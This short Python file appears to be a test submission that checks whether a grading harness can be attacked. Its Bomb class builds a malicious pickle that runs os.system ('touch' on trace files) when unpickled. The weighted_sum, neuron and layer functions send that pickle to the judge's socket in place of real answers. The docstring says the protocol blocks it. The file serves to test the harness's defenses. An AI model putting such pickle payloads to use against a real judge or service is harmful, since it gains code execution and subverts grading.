"""Answers with a pickle that writes a file when it is loaded, as header and as raw bytes.

If it succeeded: the judge would run the pickle's code.
Stopped by: the protocol; nothing is ever unpickled.
Wrong: weighted_sum neuron layer
"""

import os
import pickle
import stat
import struct

import msgspec


def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


CHANNEL = next(filter(is_socket, range(3, 64)))


def send(message, raw=b""):
    header = msgspec.msgpack.encode(message)
    os.write(CHANNEL, struct.pack(">II", len(header), len(raw)) + header + raw)


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/n2m-trace.txt n2m-trace.txt",))


CONTENT = pickle.dumps(Bomb())


def weighted_sum(x, w, b):
    os.write(CHANNEL, struct.pack(">II", len(CONTENT), 0) + CONTENT)
    return 0.0


def neuron(x, w, b, activation):
    send({"type": "answer", "value": ["array", "numpy", "object", [1], 0]}, CONTENT + bytes(100))
    return 0.0


def layer(X, W, b, activation):
    return CONTENT
